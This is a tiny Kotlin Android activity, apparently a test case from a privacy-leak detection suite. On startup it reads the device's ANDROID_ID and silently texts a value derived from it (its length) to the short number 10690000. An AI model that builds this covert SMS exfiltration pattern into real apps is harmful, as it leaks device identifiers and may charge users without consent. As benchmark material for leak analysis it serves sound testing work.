package cn.privlens.suite.build_string_length

import android.app.Activity
import android.os.Bundle
import android.provider.Settings
import android.telephony.SmsManager

class Main : Activity() {
    override fun onCreate(state: Bundle?) {
        super.onCreate(state)
        val id = Settings.Secure.getString(contentResolver, Settings.Secure.ANDROID_ID)
        val s = buildString {
            append("id:")
            append(id.length)
        }
        SmsManager.getDefault().sendTextMessage("10690000", null, s, null, null)
    }
}
